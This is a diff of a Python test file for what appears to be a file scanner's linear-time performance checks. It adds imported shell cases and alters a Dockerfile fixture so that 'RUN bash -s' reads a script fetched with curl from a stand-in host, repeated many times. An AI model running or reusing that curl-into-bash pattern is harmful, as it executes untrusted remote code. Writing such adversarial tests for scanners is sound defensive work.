@@ -7,6 +7,7 @@ import json
 
 from tests.hostile.conftest import CONTROL
 from tests.hostile.linear_time_documents import DOCUMENT_CASES
+from tests.hostile.linear_time_shell import SHELL_CASES
 
 BUDGET = 5.0  # seconds for the whole scan; fixed, each case takes well under a second
 LONG = 99_000  # a line may hold 100,000 characters
@@ -145,7 +146,7 @@ CASES = {
     ),
     "dockerfile-many-process-substitutions": (
         "Dockerfile",
-        "FROM python:3.12-slim\nUSER app\nRUN bash "
+        "FROM python:3.12-slim\nUSER app\nRUN bash -s "
         + "<(echo $(echo a)) " * (LONG // 36)
         + "< <(curl https://x.io/i) " * (LONG // 50)
         + "\n",
@@ -408,4 +409,5 @@ CASES = {
         "CMP008",
     ),
     **DOCUMENT_CASES,
+    **SHELL_CASES,
 }
